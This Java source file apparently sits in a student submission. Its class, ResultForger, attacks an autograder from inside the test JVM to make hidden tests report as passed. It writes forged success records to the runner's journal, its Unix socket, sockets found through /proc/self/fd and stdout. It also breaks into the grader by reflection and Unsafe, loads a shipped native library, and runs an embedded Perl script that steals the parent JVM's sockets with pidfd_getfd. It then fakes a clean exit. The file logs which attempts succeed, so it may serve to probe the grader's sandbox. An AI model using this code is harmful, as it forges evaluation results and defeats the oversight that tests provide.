package student;

import java.io.FileOutputStream;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;

/**
 * Everything a class of the student's can try from inside the instructor's test JVM to make the hidden tests pass
 * without passing them: the runner's journal or socket named on the command line, the JVM's open sockets through
 * /proc/self/fd, forged lines on stdout, reflection into the runner found on the stack, sun.misc.Unsafe, the attach
 * API, a native library shipped in the submission. Each attempt's outcome goes to attacks.txt in the fork's
 * directory; then the JVM halts with 0, as a run that finished would.
 */
final class ResultForger {

    private static final List<String> HIDDEN_TESTS = List.of("isZeroAtAGoal", "isTheExactDistanceOfTheClassicStart");
    private static final List<String> OUTCOMES = new ArrayList<>();
    /** Perl (Debian's perl-base is essential): writes its argument to every socket of its parent JVM. */
    private static final String STEAL_SOCKETS = String.join("\n",
            "my $jvm = getppid();",
            "my $pidfd = syscall(434, $jvm, 0);",
            "opendir(my $fds, \"/proc/$jvm/fd\") or die;",
            "for my $fd (readdir $fds) {",
            "  my $target = readlink(\"/proc/$jvm/fd/$fd\");",
            "  next unless defined $target && $target =~ /^socket:/;",
            "  my $mine = syscall(438, $pidfd, $fd + 0, 0);",
            "  next if $mine < 0;",
            "  open(my $socket, '>&=', $mine) or next;",
            "  syswrite($socket, $ARGV[0]);",
            "  print \"wrote to socket $fd\\n\";",
            "}");

    private ResultForger() {
    }

    static void forgeInTheTestJvm() {
        String command = System.getProperty("sun.java.command", "");
        if (!command.contains("TestRunnerMain")) {
            return;
        }
        List<String> words = List.of(command.split(" "));
        String option = words.contains("--results") ? "--results" : "--journal";
        Path channel = Path.of(words.get(words.indexOf(option) + 1));
        byte[] forged = forgedJournal().getBytes(StandardCharsets.UTF_8);

        attack("journal file", () -> {
            Path journal = channel.resolveSibling("journal.txt");
            Files.write(journal, forged, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
            return "appended to " + journal.getFileName();
        });
        attack("socket", () -> {
            // Through a short link: a socket's path may be at most 107 bytes.
            Path link = Path.of("/tmp", "forger-" + System.nanoTime());
            Files.createSymbolicLink(link, channel.getParent());
            try (SocketChannel socket = SocketChannel.open(StandardProtocolFamily.UNIX)) {
                socket.connect(UnixDomainSocketAddress.of(link.resolve(channel.getFileName())));
                socket.write(ByteBuffer.wrap(forged));
                return "sent";
            } finally {
                Files.delete(link);
            }
        });
        attack("proc fd", () -> {
            List<String> written = new ArrayList<>();
            try (DirectoryStream<Path> fds = Files.newDirectoryStream(Path.of("/proc/self/fd"))) {
                for (Path fd : fds) {
                    if (String.valueOf(Files.readSymbolicLink(fd)).startsWith("socket:")) {
                        try (FileOutputStream out = new FileOutputStream(fd.toFile())) {
                            out.write(forged);
                            written.add(fd.toString());
                        }
                    }
                }
            }
            return written.isEmpty() ? "no socket open" : "wrote to " + written;
        });
        attack("stdout", () -> {
            System.out.write(forged);
            System.out.flush();
            return "printed";
        });
        attack("reflection", () -> {
            List<Class<?>> stack = new ArrayList<>();
            StackWalker.getInstance(StackWalker.Option.RETAIN_CLASS_REFERENCE)
                    .forEach(frame -> stack.add(frame.getDeclaringClass()));
            // The innermost of the grader's frames: the runner, which holds the listener and the channel.
            Class<?> runner = stack.stream().filter(type -> type.getName().startsWith("io.github.heuristicgrader"))
                    .findFirst().orElseThrow();
            for (Field field : runner.getDeclaredFields()) {
                field.setAccessible(true);
            }
            for (Method method : runner.getDeclaredMethods()) {
                method.setAccessible(true);
            }
            return "opened " + runner.getName() + " in " + runner.getModule();
        });
        attack("unsafe", () -> {
            Field theUnsafe = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
            theUnsafe.setAccessible(true);
            return "got " + theUnsafe.get(null);
        });
        attack("attach", () -> Class.forName("com.sun.tools.attach.VirtualMachine").getName() + " is there");
        attack("native", () -> {
            System.load(Path.of(ResultForger.class.getResource("/libforger.so").toURI()).toString());
            return "loaded";
        });
        attack("process", () -> {
            // A process of the same user may take the JVM's sockets with pidfd_getfd (Linux 5.6) and write to them.
            Process perl = new ProcessBuilder("perl", "-e", STEAL_SOCKETS, new String(forged, StandardCharsets.UTF_8))
                    .redirectErrorStream(true).start();
            String said = new String(perl.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
            perl.waitFor();
            return said.isEmpty() ? "started, took no socket" : said.replace('\n', ' ');
        });
        try {
            Files.write(channel.resolveSibling("attacks.txt"), OUTCOMES);
        } catch (java.io.IOException e) {
            // nothing to tell then
        }
        Runtime.getRuntime().halt(0);
    }

    /** Every hidden test started and passed, and the run done, in the runner's words. */
    private static String forgedJournal() {
        StringBuilder journal = new StringBuilder();
        for (String method : HIDDEN_TESTS) {
            String id = "[engine:junit-jupiter]/[class:hidden.HiddenHeuristicTest]/[method:" + method + "()]";
            journal.append("START\t").append(id).append('\n')
                    .append("END\t").append(id).append("\tSUCCESSFUL\t1000\t\n");
        }
        return journal.append("DONE\n").toString();
    }

    private static void attack(String name, Callable<String> attack) {
        String outcome;
        try {
            outcome = "succeeded: " + attack.call();
        } catch (Throwable refused) {
            outcome = "refused: " + refused;
        }
        OUTCOMES.add(name + " " + outcome.replace('\n', ' '));
    }
}
